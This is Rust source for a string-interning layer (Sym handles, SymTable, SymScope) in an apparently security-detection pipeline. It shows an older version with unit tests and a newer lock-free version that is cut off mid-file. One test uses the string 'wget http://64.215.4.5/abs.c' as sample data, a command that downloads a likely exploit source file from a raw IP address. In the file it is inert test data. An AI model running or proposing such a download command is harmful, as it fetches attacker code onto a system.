        self == other.as_str()
    }
}

impl PartialEq<Sym> for &str {
    fn eq(&self, other: &Sym) -> bool {
        *self == other.as_str()
    }
}

impl PartialEq<Sym> for String {
    fn eq(&self, other: &Sym) -> bool {
        self.as_str() == other.as_str()
    }
}

impl PartialOrd for Sym {
    fn partial_cmp(&self, other: &Sym) -> Option<std::cmp::Ordering> {
        Some(self.cmp(other))
    }
}

impl Ord for Sym {
    fn cmp(&self, other: &Sym) -> std::cmp::Ordering {
        if self.0 == other.0 {
            return std::cmp::Ordering::Equal;
        }
        self.as_str().cmp(other.as_str())
    }
}

impl fmt::Display for Sym {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl fmt::Debug for Sym {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        fmt::Debug::fmt(self.as_str(), f)
    }
}

struct Inner {
    map: HashMap<&'static str, u32, BuildHasherDefault<FxHasher>>,
    strings: Vec<&'static str>,
}

/// An append-only string table: `&str → Sym` on insert, `Sym → &'static
/// str` on lookup. Entries are leaked (the symbol universe of a run is
/// bounded); both directions take one `RwLock` acquisition, and reads never
/// block each other.
///
/// **Handles are table-scoped.** A [`Sym`] minted by [`SymTable::intern`]
/// is an index into *that* table; every convenience on `Sym` itself
/// (`as_str`, `Deref`, `Display`, `Debug`, string comparisons, `Ord`)
/// resolves against the [`global`] table and will panic — or, worse,
/// produce an unrelated string — for a handle from a private table. Use a
/// private `SymTable` only as a scoped id↔string map, resolving through
/// [`SymTable::resolve`] on the same instance; everything on the pipeline
/// hot path goes through the global table via `Sym::new`/`From`.
pub struct SymTable {
    inner: RwLock<Inner>,
}

impl SymTable {
    /// A fresh table with `""` pre-interned as [`Sym::EMPTY`].
    pub fn new() -> SymTable {
        let mut map: HashMap<&'static str, u32, BuildHasherDefault<FxHasher>> = HashMap::default();
        map.insert("", 0);
        SymTable {
            inner: RwLock::new(Inner {
                map,
                strings: vec![""],
            }),
        }
    }

    /// Intern a string, returning its stable handle.
    pub fn intern(&self, s: &str) -> Sym {
        if let Some(&id) = self.inner.read().expect("sym table").map.get(s) {
            return Sym(id);
        }
        let mut w = self.inner.write().expect("sym table");
        if let Some(&id) = w.map.get(s) {
            return Sym(id);
        }
        let leaked: &'static str = Box::leak(s.to_owned().into_boxed_str());
        let id = u32::try_from(w.strings.len()).expect("symbol universe exceeds u32");
        w.strings.push(leaked);
        w.map.insert(leaked, id);
        Sym(id)
    }

    /// Resolve a handle minted by **this** table (see the type-level note
    /// on table scoping).
    pub fn resolve(&self, sym: Sym) -> &'static str {
        self.inner
            .read()
            .expect("sym table")
            .strings
            .get(sym.0 as usize)
            .copied()
            .unwrap_or_else(|| panic!("Sym({}) was not minted by this SymTable", sym.0))
    }

    /// Number of interned strings (including the empty string).
    pub fn len(&self) -> usize {
        self.inner.read().expect("sym table").strings.len()
    }

    pub fn is_empty(&self) -> bool {
        false // "" is always present
    }

    /// A serializable `(id, string)` snapshot, in intern order — lets a
    /// report or artifact embed the symbol universe it references.
    pub fn snapshot(&self) -> Vec<(u32, String)> {
        self.inner
            .read()
            .expect("sym table")
            .strings
            .iter()
            .enumerate()
            .map(|(i, s)| (i as u32, (*s).to_string()))
            .collect()
    }
}

impl Default for SymTable {
    fn default() -> Self {
        SymTable::new()
    }
}

/// The process-wide table behind [`Sym`].
pub fn global() -> &'static SymTable {
    static TABLE: OnceLock<SymTable> = OnceLock::new();
    TABLE.get_or_init(SymTable::new)
}

/// Intern into the global table (alias of [`Sym::new`]).
#[inline]
pub fn intern(s: &str) -> Sym {
    Sym::new(s)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn intern_is_idempotent_and_copy() {
        let a = Sym::new("alice");
        let b = Sym::new("alice");
        let c = Sym::new("bob");
        assert_eq!(a, b);
        assert_ne!(a, c);
        assert_eq!(a.as_str(), "alice");
        let copied = a; // Copy, not move
        assert_eq!(a, copied);
    }

    #[test]
    fn empty_sym_is_default() {
        assert_eq!(Sym::default(), Sym::EMPTY);
        assert_eq!(Sym::new(""), Sym::EMPTY);
        assert!(Sym::EMPTY.is_empty());
        assert!(!Sym::new("x").is_empty());
    }

    #[test]
    fn string_like_ergonomics() {
        let s = Sym::new("wget http://64.215.4.5/abs.c");
        // Deref gives str methods.
        assert!(s.starts_with("wget"));
        assert!(s.contains("abs.c"));
        // Mixed-type comparisons in both directions.
        assert!(s == "wget http://64.215.4.5/abs.c");
        assert!("wget http://64.215.4.5/abs.c" == s);
        let owned = String::from("wget http://64.215.4.5/abs.c");
        assert!(s == owned);
        assert!(owned == s);
        assert_eq!(format!("{s}"), "wget http://64.215.4.5/abs.c");
        assert_eq!(format!("{s:?}"), "\"wget http://64.215.4.5/abs.c\"");
    }

    #[test]
    fn ordering_follows_strings_not_ids() {
        // Intern in reverse lexical order: ids disagree with the strings.
        let z = Sym::new("zzz-order-test");
        let a = Sym::new("aaa-order-test");
        assert!(a < z, "Ord must compare strings");
        let mut v = vec![z, a];
        v.sort();
        assert_eq!(v, vec![a, z]);
    }

    #[test]
    fn from_impls_intern() {
        let owned: Sym = String::from("owned-str").into();
        let borrowed: Sym = "owned-str".into();
        assert_eq!(owned, borrowed);
    }

    #[test]
    fn private_table_snapshot() {
        let t = SymTable::new();
        let a = t.intern("one");
        let b = t.intern("two");
        assert_eq!(t.intern("one"), a);
        assert_eq!(t.resolve(b), "two");
        assert_eq!(t.len(), 3);
        let snap = t.snapshot();
        assert_eq!(snap[0], (0, String::new()));
        assert_eq!(snap[1], (1, "one".to_string()));
        assert_eq!(snap[2], (2, "two".to_string()));
    }

    #[test]
    fn concurrent_intern_agrees() {
        let handles: Vec<_> = (0..8)
            .map(|i| {
                std::thread::spawn(move || {
                    let mut ids = Vec::new();
                    for j in 0..64 {
                        ids.push(Sym::new(&format!("concurrent-{}", (i + j) % 16)).id());
                    }
                    ids
                })
            })
            .collect();
        let all: Vec<Vec<u32>> = handles.into_iter().map(|h| h.join().unwrap()).collect();
        // Every thread resolved each distinct string to the same id.
        for j in 0..16 {
            let expect = Sym::new(&format!("concurrent-{j}")).id();
            for ids in &all {
                assert!(ids.contains(&expect));
            }
        }
    }
}
