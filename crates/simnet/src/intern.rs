//! String interning for the record/alert hot path.
//!
//! The symbolize → filter → detect pipeline used to round-trip heap
//! `String`s on every record: user names, hostnames, command lines, URIs.
//! At production-scale replay volume (millions of records) the allocator
//! becomes the bottleneck, not the detection math. This module provides the
//! shared interning layer every record type builds on:
//!
//! - [`Sym`] — a `Copy` 32-bit handle to an interned string. Comparing,
//!   hashing and moving a `Sym` never touches the heap; resolving one
//!   (`as_str`, `Deref<Target = str>`) returns a `&'static str` backed by
//!   the process-wide table.
//! - [`SymTable`] — the append-only table itself: one implementation
//!   backing *every* interning scope in the process.
//! - [`SymScope`] — a cheap clonable handle to one table. The process-wide
//!   default scope ([`SymScope::global`]) is what `Sym::from`/[`intern`]
//!   use; tenant scopes are the same type with a bounded lifetime.
//! - [`TenantSymbols`] — a registry of per-tenant [`SymScope`]s for the
//!   always-on service mode: each tenant's symbol universe lives in its own
//!   scope and is *freed* when the tenant is evicted, unlike the global
//!   scope whose entries live for the process.
//!
//! # Lock-free interning and resolution
//!
//! Both directions of the hot path are lock-free:
//!
//! - **`Sym → &str` (resolve)**: strings live in an *atomic
//!   pointer-chunked arena* — a fixed ladder of exponentially-sized chunks
//!   (64, 128, 256, … slots) published through one atomic length. Chunks
//!   are never reallocated, so a slot's address is stable for the table's
//!   lifetime; a writer fills the slot *before* publishing, and readers
//!   index straight into the chunk — no lock, no retry loop.
//! - **`&str → Sym` (intern hit)**: the id map is an open-addressing
//!   probe table of `AtomicU64` entries (hash tag in the upper half,
//!   `id + 1` in the lower), published through an `AtomicPtr`. A hit is a
//!   hash, a linear probe and one string compare — zero lock
//!   acquisitions, zero atomic RMWs. This used to take the table's
//!   `RwLock` read lock on *every* intern hit — an uncontended-but-real
//!   atomic RMW per record field at replay volume, and the last shared
//!   mutable structure on the per-record path before multi-core shard
//!   scaling.
//!
//! Only a **miss** — once per *distinct* string per scope — takes the
//! short append path: a `Mutex` serializes writers while the new slot is
//! filled and its index entry is published with `Release` ordering.
//! Readers racing a resize may probe a just-retired index and miss an
//! entry that is in fact present; they fall through to the append lock and
//! re-probe the current index there, so the result is still exactly one id
//! per distinct string. Retired probe tables are kept alive until the
//! table drops (their memory is bounded by a geometric series), which is
//! what lets concurrent readers probe them without any epoch scheme.
//!
//! Scoped tables *own* their strings (dropping the table frees them); the
//! global table is simply never dropped, which is what makes
//! `Sym::as_str`'s `&'static str` sound.

use std::fmt;
use std::hash::Hasher as _;
use std::mem::MaybeUninit;
use std::ops::Deref;
use std::sync::atomic::{AtomicPtr, AtomicU32, AtomicU64, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex, OnceLock};

use crate::rng::{FxHashMap, FxHasher};

/// A `Copy` handle to an interned string in a [`SymTable`].
///
/// `Sym` is the string type of every record field on the pipeline hot path.
/// Equality and hashing operate on the 32-bit id (two `Sym`s from the same
/// table are equal iff their strings are equal); ordering resolves and
/// compares the underlying strings so sort-based reports keep their
/// pre-interning order.
///
/// In debug builds each handle additionally carries the id of the table
/// that minted it, and resolving against any *other* table is a typed
/// error (panic via [`SymTable::resolve`]) instead of silently returning an
/// unrelated string. Release builds keep the handle at 32 bits and fall
/// back to bounds-checking alone.
#[derive(Clone, Copy, serde::Serialize, serde::Deserialize)]
pub struct Sym {
    id: u32,
    /// Table that minted this handle — debug builds only (see above).
    #[cfg(debug_assertions)]
    table: u32,
}

/// Table id of the process-wide [`global`] table.
const GLOBAL_TABLE_ID: u32 = 0;

#[inline]
const fn sym_with_table(id: u32, table: u32) -> Sym {
    #[cfg(not(debug_assertions))]
    let _ = table;
    Sym {
        id,
        #[cfg(debug_assertions)]
        table,
    }
}

impl Sym {
    /// The interned empty string.
    pub const EMPTY: Sym = sym_with_table(0, GLOBAL_TABLE_ID);

    /// Intern `s` in the global table (idempotent).
    #[inline]
    pub fn new(s: &str) -> Sym {
        global().intern(s)
    }

    /// The interned string. `&'static`: global-table entries live for the
    /// process.
    #[inline]
    pub fn as_str(self) -> &'static str {
        global().resolve(self)
    }

    /// Raw table id (stable within a process; assigned in intern order).
    #[inline]
    pub fn id(self) -> u32 {
        self.id
    }

    /// Rebuild a handle from a raw id previously obtained via [`Sym::id`]
    /// in this process. The handle is scoped to the **global** table (raw
    /// ids of scoped tables round-trip through
    /// [`SymTable::sym_from_id`] instead); resolving a fabricated id
    /// panics.
    #[inline]
    pub fn from_id(id: u32) -> Sym {
        sym_with_table(id, GLOBAL_TABLE_ID)
    }

    /// Whether this symbol is the empty string.
    #[inline]
    pub fn is_empty(self) -> bool {
        self.id == 0
    }
}

impl Default for Sym {
    fn default() -> Self {
        Sym::EMPTY
    }
}

// Equality/hashing are over the 32-bit id alone — the hot-path property
// (neither ever resolves the table). The debug-only minting-table tag is
// deliberately excluded: it is a diagnostic, not part of identity, and
// including it would make debug and release builds disagree.
impl PartialEq for Sym {
    #[inline]
    fn eq(&self, other: &Sym) -> bool {
        self.id == other.id
    }
}

impl Eq for Sym {}

impl std::hash::Hash for Sym {
    #[inline]
    fn hash<H: std::hash::Hasher>(&self, state: &mut H) {
        self.id.hash(state);
    }
}

impl Deref for Sym {
    type Target = str;

    #[inline]
    fn deref(&self) -> &'static str {
        self.as_str()
    }
}

impl AsRef<str> for Sym {
    fn as_ref(&self) -> &str {
        self.as_str()
    }
}

// NOTE: deliberately NO `Borrow<str>` impl. `Sym`'s `Hash` is over the
// 32-bit id (the hot-path property: hashing never resolves the table),
// while `str` hashes its bytes — the `Borrow` contract requires the two
// to agree, and implementing it would make `HashMap<Sym, _>::get::<str>`
// compile and then silently miss every key. The consistency proptest in
// `tests/intern_consistency.rs` pins the invariants that *do* hold
// (`Eq`/`Ord`/hash agree across `Sym`, `&str` and `String` views).

impl From<&str> for Sym {
    #[inline]
    fn from(s: &str) -> Sym {
        Sym::new(s)
    }
}

impl From<&String> for Sym {
    #[inline]
    fn from(s: &String) -> Sym {
        Sym::new(s)
    }
}

impl From<String> for Sym {
    #[inline]
    fn from(s: String) -> Sym {
        Sym::new(&s)
    }
}

impl PartialEq<str> for Sym {
    fn eq(&self, other: &str) -> bool {
        self.as_str() == other
    }
}

impl PartialEq<&str> for Sym {
    fn eq(&self, other: &&str) -> bool {
        self.as_str() == *other
    }
}

impl PartialEq<String> for Sym {
    fn eq(&self, other: &String) -> bool {
        self.as_str() == other.as_str()
    }
}

impl PartialEq<Sym> for str {
    fn eq(&self, other: &Sym) -> bool {
        self == other.as_str()
    }
}

impl PartialEq<Sym> for &str {
    fn eq(&self, other: &Sym) -> bool {
        *self == other.as_str()
    }
}

impl PartialEq<Sym> for String {
    fn eq(&self, other: &Sym) -> bool {
        self.as_str() == other.as_str()
    }
}

impl PartialOrd for Sym {
    fn partial_cmp(&self, other: &Sym) -> Option<std::cmp::Ordering> {
        Some(self.cmp(other))
    }
}

impl Ord for Sym {
    fn cmp(&self, other: &Sym) -> std::cmp::Ordering {
        if self.id == other.id {
            return std::cmp::Ordering::Equal;
        }
        self.as_str().cmp(other.as_str())
    }
}

impl fmt::Display for Sym {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl fmt::Debug for Sym {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        fmt::Debug::fmt(self.as_str(), f)
    }
}

/// Typed resolution failure — see [`SymTable::try_resolve`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SymResolveError {
    /// The id is past the table's published length: the handle was minted
    /// by a different (larger) table, fabricated, or deserialized against
    /// the wrong universe.
    OutOfRange { sym: u32, len: u32 },
    /// Debug builds only: the handle's minting-table tag does not match
    /// the table it is being resolved against. This is the *silent* form
    /// of cross-table misuse — the id is in range, so release builds would
    /// return an unrelated string.
    WrongTable {
        sym: u32,
        minted_by: u32,
        resolved_against: u32,
    },
}

impl fmt::Display for SymResolveError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            SymResolveError::OutOfRange { sym, len } => {
                write!(f, "Sym({sym}) was not minted by this SymTable (len {len})")
            }
            SymResolveError::WrongTable {
                sym,
                minted_by,
                resolved_against,
            } => write!(
                f,
                "Sym({sym}) minted by table {minted_by} resolved against table {resolved_against}"
            ),
        }
    }
}

impl std::error::Error for SymResolveError {}

/// One published string: raw parts of a `Box<str>` owned by the table.
#[derive(Clone, Copy)]
struct Slot {
    ptr: *const u8,
    len: usize,
}

/// First chunk holds `1 << CHUNK0_BITS` slots; chunk `k` holds twice as
/// many as chunk `k − 1`. 27 chunks cover every `u32` id.
const CHUNK0_BITS: u32 = 6;
const NUM_CHUNKS: usize = 27;

/// Map an id to its (chunk, offset) in the exponential ladder.
#[inline]
fn locate(id: u32) -> (usize, usize) {
    let adjusted = id as u64 + (1 << CHUNK0_BITS);
    let chunk = (63 - adjusted.leading_zeros()) - CHUNK0_BITS;
    let offset = adjusted as usize - ((1usize << CHUNK0_BITS) << chunk);
    (chunk as usize, offset)
}

#[inline]
fn chunk_capacity(chunk: usize) -> usize {
    (1usize << CHUNK0_BITS) << chunk
}

/// Hash used by the id index. The full 64 bits are split: the low half
/// picks the probe start, the high half is the in-entry tag that screens
/// out almost every non-matching slot before the string compare.
#[inline]
fn hash_str(s: &str) -> u64 {
    let mut h = FxHasher::default();
    h.write(s.as_bytes());
    h.finish()
}

/// Initial id-index capacity (entries). Power of two.
const INDEX_INITIAL_CAP: usize = 64;

/// The lock-free `&str → id` map: an open-addressing probe table of
/// `(tag, id + 1)` entries. Entries go empty → occupied exactly once and
/// are never mutated afterwards, so readers need no synchronization beyond
/// the `Acquire` entry load that also publishes the id's slot. Grown
/// copies are published through the owning table's `AtomicPtr`; stale
/// copies stay readable (a reader may miss a fresh entry and fall through
/// to the append lock, never observe a wrong one).
struct IdIndex {
    mask: usize,
    entries: Box<[AtomicU64]>,
}

impl IdIndex {
    fn with_capacity(cap: usize) -> Box<IdIndex> {
        debug_assert!(cap.is_power_of_two());
        let entries: Box<[AtomicU64]> = (0..cap).map(|_| AtomicU64::new(0)).collect();
        Box::new(IdIndex {
            mask: cap - 1,
            entries,
        })
    }

    fn capacity(&self) -> usize {
        self.mask + 1
    }

    /// Probe for `s`. Lock-free; sound against concurrent appends because
    /// an entry is stored (`Release`) only after its slot string is
    /// written and the table length published.
    #[inline]
    fn lookup(&self, hash: u64, s: &str, table: &SymTable) -> Option<u32> {
        let tag = hash >> 32;
        let mut i = (hash as usize) & self.mask;
        loop {
            let e = self.entries[i].load(Ordering::Acquire);
            if e == 0 {
                return None;
            }
            if e >> 32 == tag {
                let id = (e as u32) - 1;
                // SAFETY: a published entry happens-after its slot write.
                if unsafe { table.read_slot(id) } == s {
                    return Some(id);
                }
            }
            i = (i + 1) & self.mask;
        }
    }

    /// Insert `(hash, id)`. Caller must hold the append lock (single
    /// writer) and have published the id's slot already.
    fn insert(&self, hash: u64, id: u32) {
        let tag = hash >> 32;
        let mut i = (hash as usize) & self.mask;
        loop {
            if self.entries[i].load(Ordering::Relaxed) == 0 {
                self.entries[i].store((tag << 32) | (id as u64 + 1), Ordering::Release);
                return;
            }
            i = (i + 1) & self.mask;
        }
    }
}

/// Cold state behind the append mutex.
struct AppendState {
    /// Probe tables retired by growth, kept alive for concurrent readers
    /// until the table drops. Geometric sizes: total retired memory is
    /// bounded by the live index's size.
    retired: Vec<*mut IdIndex>,
}

/// An append-only string table: `&str → Sym` on intern, `Sym → &str` on
/// resolve — **both lock-free on the hot path** (see the module docs for
/// the publication protocol). A miss takes the short append path once per
/// distinct string.
///
/// This one type backs every interning scope in the process: the
/// [`global`] table and every tenant table are the same implementation,
/// differing only in ownership ([`SymScope`]). **Handles are
/// table-scoped.** A [`Sym`] minted by [`SymTable::intern`] is an index
/// into *that* table; every convenience on `Sym` itself (`as_str`,
/// `Deref`, `Display`, `Debug`, string comparisons, `Ord`) resolves
/// against the [`global`] table. Resolving a handle against the wrong
/// table is caught: debug builds tag each handle with its minting table
/// and panic on any mismatch, release builds bounds-check the id (see
/// [`SymTable::try_resolve`] for the non-panicking form). Scoped tables
/// ([`TenantSymbols`]) own their strings, so evicting a dead tenant
/// actually returns its symbol memory — the global table's entries live
/// for the process instead.
pub struct SymTable {
    /// Process-unique table id (0 is the global table).
    table_id: u32,
    /// Published length: slots `0..len` are initialized and immutable.
    len: AtomicU32,
    /// Total bytes of interned string payload (memory accounting).
    bytes: AtomicUsize,
    chunks: [AtomicPtr<MaybeUninit<Slot>>; NUM_CHUNKS],
    /// The live `&str → id` probe table (lock-free readers).
    index: AtomicPtr<IdIndex>,
    /// Serializes the miss/append path; guards index growth.
    append: Mutex<AppendState>,
}

// SAFETY: the raw chunk/slot/index pointers are only written while holding
// the append lock and only read after an `Acquire` load publishes them
// (index entries for slots, the atomic index pointer for probe tables).
// All published data is immutable thereafter.
unsafe impl Send for SymTable {}
unsafe impl Sync for SymTable {}

/// Ids for tables other than the global one (0).
static NEXT_TABLE_ID: AtomicU32 = AtomicU32::new(1);

impl SymTable {
    /// A fresh scoped table with `""` pre-interned as id 0.
    pub fn new() -> SymTable {
        SymTable::with_table_id(NEXT_TABLE_ID.fetch_add(1, Ordering::Relaxed))
    }

    fn with_table_id(table_id: u32) -> SymTable {
        let index = Box::into_raw(IdIndex::with_capacity(INDEX_INITIAL_CAP));
        let table = SymTable {
            table_id,
            len: AtomicU32::new(0),
            bytes: AtomicUsize::new(0),
            chunks: [const { AtomicPtr::new(std::ptr::null_mut()) }; NUM_CHUNKS],
            index: AtomicPtr::new(index),
            append: Mutex::new(AppendState {
                retired: Vec::new(),
            }),
        };
        table.intern("");
        table
    }

    /// This table's process-unique id (0 is the [`global`] table).
    pub fn table_id(&self) -> u32 {
        self.table_id
    }

    #[inline]
    fn tag(&self, id: u32) -> Sym {
        sym_with_table(id, self.table_id)
    }

    /// Intern a string, returning its stable handle (scoped to this
    /// table). **Lock-free on a hit**; a miss (once per distinct string)
    /// takes the append lock.
    #[inline]
    pub fn intern(&self, s: &str) -> Sym {
        let hash = hash_str(s);
        // SAFETY: the index pointer is always a live IdIndex (retired
        // copies are freed only on drop).
        let index = unsafe { &*self.index.load(Ordering::Acquire) };
        if let Some(id) = index.lookup(hash, s, self) {
            return self.tag(id);
        }
        self.intern_slow(hash, s)
    }

    /// The append path: serialize writers, re-probe (the miss may have
    /// raced an append or a resize), then publish slot + index entry.
    #[cold]
    fn intern_slow(&self, hash: u64, s: &str) -> Sym {
        let mut state = self.append.lock().expect("sym table");
        // Re-probe under the lock against the *current* index: a racing
        // writer may have interned `s`, or a resize may have moved it past
        // the copy we probed lock-free.
        let mut index = unsafe { &*self.index.load(Ordering::Relaxed) };
        if let Some(id) = index.lookup(hash, s, self) {
            return self.tag(id);
        }
        let id = self.len.load(Ordering::Relaxed);
        assert!(id != u32::MAX, "symbol universe exceeds u32");
        let owned: Box<str> = s.into();
        let slot = Slot {
            ptr: owned.as_ptr(),
            len: owned.len(),
        };
        // The table now owns the allocation; it is freed in `drop`.
        std::mem::forget(owned);
        // SAFETY: we hold the append lock, so we are the only writer; slot
        // `id == len` is not yet visible to any reader.
        unsafe {
            self.write_slot(id, slot);
        }
        self.bytes.fetch_add(slot.len, Ordering::Relaxed);
        // Publish the arena length first: an index entry must never point
        // past it.
        self.len.store(id + 1, Ordering::Release);
        // Grow at 7/8 load so probes stay short and never cycle.
        if (id as usize + 1) * 8 >= index.capacity() * 7 {
            index = self.grow_index(&mut state, index.capacity() * 2);
        }
        index.insert(hash, id);
        self.tag(id)
    }

    /// Build a doubled probe table holding every published id, publish it,
    /// and retire the old copy (freed on drop; concurrent readers may
    /// still be probing it).
    fn grow_index(&self, state: &mut AppendState, new_cap: usize) -> &IdIndex {
        let fresh = IdIndex::with_capacity(new_cap);
        let len = self.len.load(Ordering::Relaxed);
        for id in 0..len {
            // SAFETY: ids below the published length are initialized.
            let s = unsafe { self.read_slot(id) };
            fresh.insert(hash_str(s), id);
        }
        let fresh = Box::into_raw(fresh);
        let old = self.index.swap(fresh, Ordering::Release);
        state.retired.push(old);
        // SAFETY: just published; freed only on drop.
        unsafe { &*fresh }
    }

    /// Write `slot` at `id`, allocating the containing chunk on first use.
    ///
    /// # Safety
    /// Caller must hold the append lock (single writer) and `id` must
    /// equal the unpublished length.
    unsafe fn write_slot(&self, id: u32, slot: Slot) {
        let (chunk, offset) = locate(id);
        let mut base = self.chunks[chunk].load(Ordering::Acquire);
        if base.is_null() {
            let fresh: Box<[MaybeUninit<Slot>]> = Box::new_uninit_slice(chunk_capacity(chunk));
            base = Box::into_raw(fresh) as *mut MaybeUninit<Slot>;
            self.chunks[chunk].store(base, Ordering::Release);
        }
        unsafe { (*base.add(offset)).write(slot) };
    }

    /// Read the published slot at `id`.
    ///
    /// # Safety
    /// `id` must be below the published length (the slot is then
    /// initialized and immutable).
    #[inline]
    unsafe fn read_slot(&self, id: u32) -> &str {
        let (chunk, offset) = locate(id);
        let base = self.chunks[chunk].load(Ordering::Acquire);
        unsafe {
            let slot = (*base.add(offset)).assume_init_ref();
            std::str::from_utf8_unchecked(std::slice::from_raw_parts(slot.ptr, slot.len))
        }
    }

    /// Resolve a handle minted by **this** table (see the type-level note
    /// on table scoping). Lock-free. Panics on a foreign handle; use
    /// [`SymTable::try_resolve`] for the non-panicking form.
    #[inline]
    pub fn resolve(&self, sym: Sym) -> &str {
        match self.try_resolve(sym) {
            Ok(s) => s,
            Err(e) => panic!("{e}"),
        }
    }

    /// Resolve a handle, reporting foreign handles as a typed error
    /// instead of panicking. Release builds detect ids past this table's
    /// length; debug builds additionally reject in-range handles minted
    /// by a different table (the silently-wrong-string case).
    #[inline]
    pub fn try_resolve(&self, sym: Sym) -> Result<&str, SymResolveError> {
        #[cfg(debug_assertions)]
        if sym.table != self.table_id {
            return Err(SymResolveError::WrongTable {
                sym: sym.id,
                minted_by: sym.table,
                resolved_against: self.table_id,
            });
        }
        let len = self.len.load(Ordering::Acquire);
        if sym.id >= len {
            return Err(SymResolveError::OutOfRange { sym: sym.id, len });
        }
        // SAFETY: `sym.id < len` was published with Release ordering.
        Ok(unsafe { self.read_slot(sym.id) })
    }

    /// Rebuild a handle scoped to **this** table from a raw id previously
    /// obtained via [`Sym::id`] on one of this table's handles.
    pub fn sym_from_id(&self, id: u32) -> Sym {
        self.tag(id)
    }

    /// Number of interned strings (including the empty string). Lock-free.
    pub fn len(&self) -> usize {
        self.len.load(Ordering::Acquire) as usize
    }

    pub fn is_empty(&self) -> bool {
        false // "" is always present
    }

    /// Total bytes of interned string payload — the figure freed when a
    /// scoped table is evicted.
    pub fn payload_bytes(&self) -> usize {
        self.bytes.load(Ordering::Relaxed)
    }

    /// A serializable `(id, string)` snapshot, in intern order — lets a
    /// report, artifact or service snapshot embed the symbol universe it
    /// references. Lock-free; concurrent interns past the observed length
    /// are not included.
    pub fn snapshot(&self) -> Vec<(u32, String)> {
        let len = self.len.load(Ordering::Acquire);
        (0..len)
            // SAFETY: every id below the published length is initialized.
            .map(|id| (id, unsafe { self.read_slot(id) }.to_string()))
            .collect()
    }
}

impl Drop for SymTable {
    fn drop(&mut self) {
        let len = self.len.load(Ordering::Acquire);
        for id in 0..len {
            let (chunk, offset) = locate(id);
            let base = self.chunks[chunk].load(Ordering::Acquire);
            // SAFETY: slots below `len` hold raw parts of forgotten
            // `Box<str>`s; rebuild and drop each exactly once.
            unsafe {
                let slot = (*base.add(offset)).assume_init();
                drop(Box::from_raw(
                    std::ptr::slice_from_raw_parts_mut(slot.ptr as *mut u8, slot.len) as *mut str,
                ));
            }
        }
        for (chunk, ptr) in self.chunks.iter().enumerate() {
            let base = ptr.load(Ordering::Acquire);
            if !base.is_null() {
                // SAFETY: allocated in `write_slot` via `Box::into_raw`
                // with this exact capacity.
                unsafe {
                    drop(Box::from_raw(std::ptr::slice_from_raw_parts_mut(
                        base,
                        chunk_capacity(chunk),
                    )));
                }
            }
        }
        // The live probe table plus every retired copy.
        let index = self.index.load(Ordering::Acquire);
        // SAFETY: allocated via Box::into_raw; no readers can outlive the
        // table (resolution borrows it).
        unsafe { drop(Box::from_raw(index)) };
        for retired in self.append.get_mut().expect("sym table").retired.drain(..) {
            // SAFETY: as above — retired copies are never freed earlier.
            unsafe { drop(Box::from_raw(retired)) };
        }
    }
}

impl Default for SymTable {
    fn default() -> Self {
        SymTable::new()
    }
}

fn global_scope_arc() -> &'static Arc<SymTable> {
    static TABLE: OnceLock<Arc<SymTable>> = OnceLock::new();
    TABLE.get_or_init(|| Arc::new(SymTable::with_table_id(GLOBAL_TABLE_ID)))
}

/// The process-wide table behind [`Sym`] — the default [`SymScope`].
pub fn global() -> &'static SymTable {
    global_scope_arc()
}

/// Intern into the global table (alias of [`Sym::new`]).
#[inline]
pub fn intern(s: &str) -> Sym {
    Sym::new(s)
}

/// A clonable handle to one interning scope — the unified way every layer
/// names *which* symbol universe it mints into and resolves against.
///
/// The process-global table and per-tenant tables are the **same
/// implementation type** ([`SymTable`]); a `SymScope` is just shared
/// ownership of one of them. [`SymScope::global`] is the default scope
/// (what `Sym::from`/[`intern`] use implicitly); [`TenantSymbols::scope`]
/// hands out tenant scopes whose strings are freed when the last handle
/// goes. Cloning is one `Arc` bump; interning and resolving through a
/// scope are exactly as lock-free as the underlying table.
///
/// Holding a `SymScope` keeps its table alive: a reader resolving through
/// a clone of an evicted tenant's scope still sees valid strings — the
/// memory is returned when the last clone drops, never under a live
/// reader.
#[derive(Clone)]
pub struct SymScope {
    table: Arc<SymTable>,
}

impl SymScope {
    /// The process-wide default scope (table id 0, entries live forever).
    #[inline]
    pub fn global() -> SymScope {
        SymScope {
            table: Arc::clone(global_scope_arc()),
        }
    }

    /// A fresh private scope with its own table (for tests, tools, and
    /// registries like [`TenantSymbols`]).
    pub fn fresh() -> SymScope {
        SymScope {
            table: Arc::new(SymTable::new()),
        }
    }

    /// Whether this is the process-global scope.
    #[inline]
    pub fn is_global(&self) -> bool {
        self.table.table_id == GLOBAL_TABLE_ID
    }

    /// The underlying table.
    #[inline]
    pub fn table(&self) -> &SymTable {
        &self.table
    }

    /// This scope's process-unique table id (0 is the global scope).
    /// Table ids are never reused, so the id also distinguishes a
    /// re-created tenant scope from the evicted one it replaced — which is
    /// what makes it a sound cache key for per-scope memoization.
    #[inline]
    pub fn scope_id(&self) -> u32 {
        self.table.table_id
    }

    /// Intern `s` in this scope. Lock-free on a hit.
    #[inline]
    pub fn sym(&self, s: &str) -> Sym {
        self.table.intern(s)
    }

    /// Resolve a handle minted by this scope. Lock-free. The borrow ties
    /// the string to the scope handle, so an evicted tenant's strings
    /// outlive every outstanding reader.
    #[inline]
    pub fn resolve(&self, sym: Sym) -> &str {
        self.table.resolve(sym)
    }

    /// Non-panicking [`SymScope::resolve`].
    #[inline]
    pub fn try_resolve(&self, sym: Sym) -> Result<&str, SymResolveError> {
        self.table.try_resolve(sym)
    }

    /// Rebuild a handle scoped to this table from a raw id.
    #[inline]
    pub fn sym_from_id(&self, id: u32) -> Sym {
        self.table.sym_from_id(id)
    }

    /// Whether two handles name the same underlying table.
    pub fn ptr_eq(&self, other: &SymScope) -> bool {
        Arc::ptr_eq(&self.table, &other.table)
    }

    /// Number of interned strings in this scope.
    pub fn len(&self) -> usize {
        self.table.len()
    }

    pub fn is_empty(&self) -> bool {
        false // "" is always present
    }

    /// Total bytes of interned string payload in this scope.
    pub fn payload_bytes(&self) -> usize {
        self.table.payload_bytes()
    }

    /// `(id, string)` snapshot of this scope, in intern order.
